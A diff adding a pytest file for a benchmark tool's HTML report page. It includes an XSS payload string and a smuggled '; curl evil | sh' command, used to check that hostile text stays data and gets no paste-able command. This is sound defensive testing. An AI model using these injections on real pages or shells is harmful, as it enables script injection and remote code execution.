@@ -1,0 +1,131 @@
+"""The page of a report: what it knows is what the summaries say; strangers' texts are data; it loads nothing."""
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from deepbench.judge import compare
+from deepbench.report.page import content, render
+from deepbench.results.file import ResultFile
+from deepbench.results.summary import summarize
+from tests import samples
+
+HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>=cmd"
+
+
+def file(records, cases=()):
+    return ResultFile(Path("mine.jsonl"), samples.header(list(cases)), records)
+
+
+def test_columns_are_the_numbers_of_the_summaries():
+    text = "gemm m=4 n={} k=4 a_t=0 b_t=0 forward f32 {} threads=1"
+    records = [
+        samples.measured(b, s * n, text=text.format(n, b))
+        for n in (1, 2)
+        for b, s in (("mkl", 1e-3), ("openblas", 2e-3))
+    ]
+    found = content.of_file(file(records), "mine")
+    summaries = summarize(records)
+
+    assert [s.estimate.time_s for s in summaries] == found["columns"]["time_s"]
+    assert [s.flop_per_s for s in summaries] == found["columns"]["flop_per_s"]
+    assert [1, 0, 1, 0] == found["columns"]["place"]
+    assert ["gemm m=4 k=4 a_t=0 b_t=0"] * 4 == found["columns"]["family"]
+    assert [1, 1, 2, 2] == found["columns"]["size"]
+    assert "gemm: MKL 2" in " ".join(found["sentences"])
+    assert len(records) == len(found["samples"])
+
+
+def test_a_command_is_offered_only_for_words_that_are_safe_to_paste():
+    good, bad = samples.measured(), samples.measured(seconds=2e-3)
+    bad["case"] += "; curl evil | sh #"
+    found = content.of_file(file([good, bad]), "mine")
+
+    assert [f"deepbench run {good['case']}", None] == found["columns"]["command"]
+
+
+def test_a_cpu_and_a_gpu_are_told_apart():
+    text = "gemm m=64 n=64 k=64 a_t=0 b_t=0 forward f32 {} threads=1"
+    records = [samples.measured(b, s, text=text.format(b)) for b, s in (("mkl", 1e-3), ("cublas", 1e-6))]
+    found = content.of_file(file(records), "mine")
+
+    assert ["cpu", "cuda"] == found["columns"]["device"]
+    assert [1, 1] == found["columns"]["place"]  # no rivals
+    assert [("cpu", 1), ("cuda", 1)] == [(place["device"], place["threads"]) for place in found["limits"]]
+    for place, s in zip(found["limits"], summarize(records), strict=True):
+        assert place["peaks"]["f32"] == pytest.approx(s.flop_per_s)
+    told = " ".join(found["sentences"])
+    assert "the CPU reaches" in told
+    assert "the GPU reaches" in told
+
+
+def test_an_interval_from_inside_one_process_says_so():
+    one = content.of_file(file([samples.measured()]), "mine")
+    two = content.of_file(file([samples.measured(), samples.measured()]), "mine")
+
+    assert ["one process"] == one["columns"]["interval_of"]
+    assert any("too narrow" in text for text in one["sentences"])
+    assert ["processes"] == two["columns"]["interval_of"]
+
+
+def test_ways_to_do_the_same_work_are_one_family():
+    text = "all_reduce n={} ranks=2 forward f32 openmpi threads=1{}"
+    records = [
+        samples.measured("openmpi", 1e-3, text=text.format(n, w)) for n, w in ((10, " algorithm=ring"), (100, ""))
+    ]
+
+    assert 1 == len(set(content.of_file(file(records), "mine")["columns"]["family"]))
+
+
+def test_a_comparison_knows_how_much_sessions_differ(monkeypatch, tmp_path):
+    def runs(seconds):
+        records = [samples.measured(seconds=seconds * (1 + 0.001 * i)) for i in range(5)]
+        return file([{**r, "round": i} for i, r in enumerate(records, 1)])
+
+    found = runs(1e-3), runs(1.04e-3)
+    assert "slower" == content.of_pair(*found, ("a", "b"))["cases"][0]["verdict"]
+    monkeypatch.setattr(content.selftest, "between_files", lambda a, b: 0.03)
+    assert "cannot tell" == content.of_pair(*found, ("a", "b"))["cases"][0]["verdict"]
+
+
+def test_samples_are_thinned_and_keep_their_order():
+    assert [0.0, 3.0, 6.0, 9.0] == content._thinned([float(i) for i in range(10)], 4)
+    assert [1.0] == content._thinned([1.0], 4)
+
+
+def test_a_page_holds_hostile_texts_as_data_only():
+    pytest.importorskip("plotly", reason="a page needs Plotly: pip install plotly")
+    bad = samples.failed("crashed", HOSTILE)
+    bad["problem"] = {"m": 1, HOSTILE: 2}
+    header = samples.header()
+    header["machine"]["cpu"] = HOSTILE
+    found = ResultFile(Path("mine.jsonl"), header, [bad, samples.measured()])
+    html = render.page({"files": [content.of_file(found, HOSTILE)], "pairs": []}, HOSTILE).decode()
+
+    scripts = re.findall(r"<script[^>]*>", html)
+    # The data, Plotly and ours; what a stranger wrote opened none.
+    assert 2 + len(render.SCRIPTS) == len([s for s in scripts if "alert" not in s]) == len(scripts)
+    assert "<img" not in html
+    data = re.search(r'<script type="application/json" id="content">(.*?)</script>', html, re.S)[1]
+    assert HOSTILE == json.loads(data)["files"][0]["name"]
+
+
+def test_the_policy_names_each_script_by_its_hash():
+    policy = render.policy(["a", "b"])
+
+    assert "default-src 'none'" in policy
+    assert 2 == policy.count("sha256-")
+    assert "unsafe-eval" not in policy
+    assert "unsafe-inline" not in policy.split("style-src")[0]
+
+
+def test_two_files_beside_each_other():
+    a, b = (file([samples.measured(seconds=s, round_number=i) for i in range(1, 6)]) for s in (1e-3, 2e-3))
+    found = content.of_pair(a, b, ("a", "b"))
+
+    assert found["cases"][0]["ratio"] == pytest.approx(2.0)
+    assert compare.compare_files(a, b).cases[0].case == found["cases"][0]["case"]
+    nothing = content.of_pair(a, file([samples.measured("openblas")]), ("a", "b"))
+    assert "no measured case in common" in nothing["heading"][0]
